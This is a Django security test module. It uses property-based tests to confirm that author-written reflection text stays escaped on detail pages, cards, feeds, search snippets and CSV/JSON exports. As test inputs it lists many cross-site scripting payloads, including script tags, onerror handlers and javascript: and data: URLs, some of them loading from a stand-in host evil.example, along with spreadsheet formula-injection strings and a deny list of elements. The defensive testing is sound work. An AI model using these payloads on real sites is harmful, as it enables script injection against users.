"""No author text ever becomes live markup, on any path that shows a reflection.

A reflection body reaches readers five ways: the detail page (markdown_render),
the card on every list page (the plain-text excerpt), the Atom feed's item
description, the search snippet, and the CSV/JSON export. Hypothesis feeds all
five with Markdown mixed with raw tags, entities (double-encoded ones too) and
hostile link targets; an HTML parser, not a text search, then looks for real
start tags, since escaped text such as ``&lt;script&gt;`` is harmless.

The three fixed payloads once came out of ``truncatechars_html`` as live tags:
its parser writes decoded text back unescaped when the text ends exactly at
the truncation length. The run lengths hit that boundary in Django 5.2.
"""

import csv
import io
import json
import re
from html import unescape
from html.parser import HTMLParser

import pytest
from django.template.loader import render_to_string
from django.urls import reverse
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from experiences.accounts.models import User
from experiences.core.markdown import markdown_render, text_clean, text_excerpt
from experiences.reflections.exports import reflections_csv, reflections_json
from experiences.reflections.feeds import ReflectionsFeed
from experiences.reflections.models import Reflection
from experiences.reflections.services import reflection_create
from experiences.search.indexing import reflection_document
from experiences.search.query import query_parse
from experiences.search.snippets import snippet_highlight, title_highlight
from tests.factories import ReflectionFactory, UserFactory

pytestmark = pytest.mark.django_db

META_PAYLOAD = '""" *x* ' + "a" * 177 + "<meta http-equiv=refresh content=0;url=/search/?q=PWNED>&"
STYLE_PAYLOAD = '""""" *x* ' + "a" * 195 + "<style>body{background:red}</style>&&"
IMG_PAYLOAD = '""" *x* ' + "a" * 205 + "<img src=x onerror=alert(1)>&"
PAYLOADS = [META_PAYLOAD, STYLE_PAYLOAD, IMG_PAYLOAD]
LIVE_PAYLOAD_TAG = re.compile(r"<(?:meta http-equiv|style>body|img src=x)", re.I)

FORBIDDEN_ELEMENTS = {
    "script",
    "style",
    "meta",
    "iframe",
    "object",
    "embed",
    "form",
    "img",
    "svg",
    "math",
    "link",
    "base",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster"}
# Browsers drop ASCII whitespace and control characters inside a scheme: java\tscript: runs.
_SCHEME_NOISE = re.compile(r"[\x00-\x20]")


class LiveMarkup(HTMLParser):
    """Collects what a browser would treat as markup: start tags and their attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{name}= on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                scheme = _SCHEME_NOISE.sub("", value).lower()
                if scheme.startswith(("javascript:", "data:", "vbscript:")):
                    self.problems.append(f"{name}={value!r} on <{tag}>")


def live_markup(html: str) -> LiveMarkup:
    parser = LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser


def assert_no_live_markup(html: str, where: str) -> None:
    problems = live_markup(html).problems
    assert not problems, f"{where}: {problems} in {html!r}"


# --- Strategies -----------------------------------------------------------------

CHINESE = st.text(st.characters(min_codepoint=0x4E00, max_codepoint=0x9FA5), min_size=1, max_size=8)
ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=10)
RUNS = st.integers(min_value=1, max_value=250).map(lambda n: "a" * n)
RAW_TAGS = st.sampled_from(
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<style>body{background:red}</style>",
        "<meta http-equiv=refresh content=0;url=/search/?q=PWNED>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<object data=data:text/html,x></object>",
        "<embed src=x>",
        "<form action=//evil.example><button>提交</button></form>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        '<a href="javascript:alert(1)">点我</a>',
        "<p onclick=alert(1)>段落</p>",
        "<base href=//evil.example/>",
        "<scr<script>ipt>alert(1)</script>",
        "<!-- <script>alert(1)</script> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "</p><script>alert(1)</script><p>",
        "<",
        ">",
        "</",
        '"',
        "'",
    ]
)
ENTITIES = st.sampled_from(
    [
        "&lt;",
        "&gt;",
        "&amp;",
        "&amp;lt;",
        "&amp;amp;lt;",
        "&#60;",
        "&#x3c;",
        "&#X3C;",
        "&#0000060;",
        "&lt",
        "&LT;",
        "&quot;",
        "&#39;",
        "&nbsp;",
        "&colon;",
        "&Tab;",
        "&",
        "&&",
        "&#",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&lt;img src=x onerror=alert(1)&gt;",
    ]
)
MARKDOWN_SYNTAX = st.sampled_from(
    [
        "*",
        "**",
        "_",
        "~~",
        "`",
        "```\n",
        "\n",
        "\n\n",
        "# ",
        "### ",
        "> ",
        "- ",
        "1. ",
        "    ",
        "---\n",
        "\\",
        "[",
        "]",
        "(",
        ")",
        "![x](x.png)",
        "<https://example.cn/>",
        "\uff0c",
        "\N{FULLWIDTH COLON}",
        "。",
        "“",
        "”",
    ]
)
LINK_TARGETS = st.sampled_from(
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java%09script:alert(1)",
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "\x01javascript:alert(1)",
        "<javascript:alert(1)>",
        "<java\tscript:alert(1)>",
        "data:text/html,<script>alert(1)</script>",
        "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "https://example.cn/",
        "/search/?q=<b>",
        "mailto:a@example.cn",
    ]
)
LINK_TITLES = st.sampled_from(["", ' "标题"', ' "a>b"', " 'x\" onmouseover=alert(1) y'"])
LINKS = st.one_of(
    st.builds(
        lambda text, target, title: f"[{text}]({target}{title})",
        st.one_of(CHINESE, st.just("x")),
        LINK_TARGETS,
        LINK_TITLES,
    ),
    st.builds(lambda target: f"<{target}>", LINK_TARGETS),
    st.builds(lambda target: f"[x][r]\n\n[r]: {target}\n", LINK_TARGETS),
)
PIECES = st.one_of(CHINESE, ANY_TEXT, RUNS, RAW_TAGS, ENTITIES, MARKDOWN_SYNTAX, LINKS)
BODIES = st.lists(PIECES, max_size=25).map("".join)
TITLES = st.lists(st.one_of(CHINESE, RAW_TAGS, ENTITIES), max_size=4).map("".join)

BOUNDED = settings(
    max_examples=200,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def with_payloads(**other_arguments):
    """The three fixed payloads run first, every time, before the generated ones."""

    def decorate(test):
        for payload in reversed(PAYLOADS):
            test = example(body=payload, **other_arguments)(test)
        return test

    return decorate


@pytest.fixture
def author(db):
    return UserFactory(username="zuozhe", display_name="作者", is_staff=True)


def unsaved_reflection(author, body: str, *, title: str = "心得") -> Reflection:
    # A primary key without a row: templates can build URLs, and the tag query finds none.
    return Reflection(
        pk=10_000_000,
        author=author,
        title=title,
        body=body,
        body_html=markdown_render(body),
        status=Reflection.Status.PENDING,
    )


# --- The render paths, one property each ----------------------------------------


@BOUNDED
@with_payloads()
@given(body=BODIES)
def test_detail_page_html_has_no_live_markup(body):
    assert_no_live_markup(markdown_render(body), "markdown_render")


@BOUNDED
@with_payloads()
@given(body=BODIES)
def test_card_shows_plain_text_only(author, body):
    card = render_to_string(
        "includes/reflection_card.html", {"reflection": unsaved_reflection(author, body)}
    )
    assert_no_live_markup(card, "reflection card")
    excerpt = re.search(r'<p class="reflection-excerpt">(.*?)</p>', card, re.S)
    assert excerpt is not None, card
    assert live_markup(excerpt.group(1)).tags == [], "the excerpt is text, not markup"


@BOUNDED
@with_payloads()
@given(body=BODIES)
def test_feed_item_description_has_no_live_markup(author, body):
    description = ReflectionsFeed().item_description(unsaved_reflection(author, body))
    assert_no_live_markup(description, "feed item description")


@BOUNDED
@with_payloads(title="<b>载荷</b>", extra_tokens=["a", "<"])
@given(
    body=BODIES,
    title=TITLES,
    extra_tokens=st.lists(
        st.sampled_from(["script", "lt", "&", "<", "x", "a", "原则"]), max_size=3
    ),
)
def test_search_snippets_have_no_live_markup(author, body, title, extra_tokens):
    reflection = unsaved_reflection(author, body, title=title)
    document = reflection_document(reflection)
    tokens = query_parse(body[:30]).tokens + extra_tokens
    snippet = snippet_highlight(document.body, tokens)
    heading = title_highlight(document.title, tokens)
    for html, where in ((snippet, "search snippet"), (heading, "search title")):
        assert_no_live_markup(html, where)
        assert set(live_markup(html).tags) <= {"mark"}, where


TITLE_MAX = Reflection._meta.get_field("title").max_length
NAME_MAX = User._meta.get_field("display_name").max_length


@pytest.fixture
def exported(author, principle):
    """One published reflection; each example overwrites its text and exports it."""
    return ReflectionFactory(author=author, principle=principle)


@BOUNDED
@with_payloads(title='=HYPERLINK("https://evil.example")', name="<script>x</script>")
@given(body=BODIES, title=TITLES, name=TITLES)
def test_json_export_is_the_true_text_with_no_live_markup(exported, body, title, name):
    # Stored as the site stores it: cleaned and stripped; a body is never empty.
    body, title, name = (text_clean(text).strip() for text in (body, title, name))
    body = body or "正文"
    User.objects.filter(pk=exported.author_id).update(
        display_name=name[:NAME_MAX], unit=name[:NAME_MAX]
    )
    Reflection.objects.filter(pk=exported.pk).update(title=title[:TITLE_MAX], body=body)
    raw = reflections_json(Reflection.objects.filter(pk=exported.pk)).decode("utf-8")
    assert_no_live_markup(raw, "JSON export")
    [row] = json.loads(raw)
    assert (row["标题"], row["正文"], row["作者"]) == (
        title[:TITLE_MAX],
        body,
        name[:NAME_MAX] or "zuozhe",
    )


@BOUNDED
@with_payloads(title="@SUM(1+1)")
@given(body=BODIES, title=TITLES)
def test_csv_export_keeps_the_text_and_runs_no_formula(exported, body, title):
    """A CSV has no way to escape markup; it is safe because it is only ever a download
    (see test_export_downloads_are_never_shown_as_html) and it must stay the true text."""
    body, title = (text_clean(text).strip() for text in (body, title))
    body = body or "正文"
    Reflection.objects.filter(pk=exported.pk).update(title=title[:TITLE_MAX], body=body)
    raw = reflections_csv(Reflection.objects.filter(pk=exported.pk)).decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(raw, newline="")))
    for column, typed in (("标题", title[:TITLE_MAX]), ("正文", body)):
        cell = row[column]
        if typed.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell == "'" + typed
        else:
            assert cell == typed


def test_export_downloads_are_never_shown_as_html(admin_client, exported):
    Reflection.objects.filter(pk=exported.pk).update(body=IMG_PAYLOAD)
    for action, content_type in (
        ("export_csv", "text/csv; charset=utf-8"),
        ("export_json", "application/json; charset=utf-8"),
    ):
        response = admin_client.post(
            reverse("admin:experiences_reflection_changelist"),
            {"action": action, "_selected_action": [exported.pk]},
        )
        assert response["Content-Type"] == content_type
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["X-Content-Type-Options"] == "nosniff"


# --- The excerpt itself ------------------------------------------------------------


@BOUNDED
@given(body=BODIES)
def test_excerpt_is_short_unescaped_once_and_single_spaced(body):
    excerpt = text_excerpt(markdown_render(body))
    assert len(excerpt) <= 121
    assert "  " not in excerpt and "\n" not in excerpt
    assert excerpt == excerpt.strip()


def test_excerpt_decodes_entities_exactly_once():
    html = markdown_render("输入 &amp;lt;b&amp;gt; 和 <i> 和 &lt;")
    assert text_excerpt(html) == "输入 &lt;b&gt; 和 <i> 和 <"


def test_excerpt_joins_inline_text_and_separates_blocks():
    html = markdown_render("和群众打成一片\uff0c**坚持原则**。\n\n- 第一条\n- 第二条\n\n## 小标题")
    assert text_excerpt(html) == "和群众打成一片\uff0c坚持原则。 第一条 第二条 小标题"


def test_excerpt_is_cut_at_a_character_boundary_with_an_ellipsis():
    excerpt = text_excerpt(markdown_render("原" * 300))
    assert excerpt == "原" * 120 + "…"
    combining = text_excerpt("<p>" + "e" * 119 + "e\u0301" + "x" * 10 + "</p>")
    assert combining == "e" * 119 + "…", "a combining accent is not torn from its letter"


def test_excerpt_skips_quoted_angle_brackets_in_attributes():
    html = markdown_render('[链接](https://example.cn/ "a>b") 之后的文字')
    assert text_excerpt(html) == "链接 之后的文字"


def test_excerpt_costs_no_queries(django_assert_num_queries, author):
    reflection = unsaved_reflection(author, "正文" * 200)
    with django_assert_num_queries(0):
        assert reflection.excerpt.endswith("…")


# --- End to end: what an anonymous visitor's browser receives -------------------------


@pytest.mark.parametrize("payload", PAYLOADS, ids=["meta", "style", "img"])
def test_payloads_stay_text_on_every_page_with_cards(client, principle, payload):
    author = UserFactory(username="laoshou", display_name="老手", is_staff=True)
    reflection, created = reflection_create(
        author=author, principle=principle, title="载荷", body=payload, tags=["安全"]
    )
    assert created and reflection.status == Reflection.Status.PUBLISHED
    Reflection.objects.filter(pk=reflection.pk).update(is_featured=True)

    pages = [
        "/",
        "/reflections/",
        principle.get_absolute_url(),
        reverse("experiences:tag_detail", args=["安全"]),
        author.get_absolute_url(),
    ]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        card = re.search(
            rf'<li class="card reflection-card[^"]*" id="reflection-{reflection.pk}">.*?</li>',
            html,
            re.S,
        )
        assert card is not None, f"{url} shows the card"
        assert_no_live_markup(card.group(0), url)
        assert not LIVE_PAYLOAD_TAG.search(html), url

    detail = client.get(reflection.get_absolute_url()).content.decode()
    body = re.search(r'<div class="reflection-body">(.*?)</div>', detail, re.S)
    assert_no_live_markup(body.group(1), "detail page")
    assert not LIVE_PAYLOAD_TAG.search(detail)
    results = client.get(reverse("experiences:search"), {"q": "载荷"}).content.decode()
    assert "载荷" in results and not LIVE_PAYLOAD_TAG.search(results)
    feed = client.get("/feeds/reflections/").content.decode()
    [summary] = re.findall(r'<summary type="html">(.*?)</summary>', feed, re.S)
    assert_no_live_markup(unescape(summary), "Atom summary")
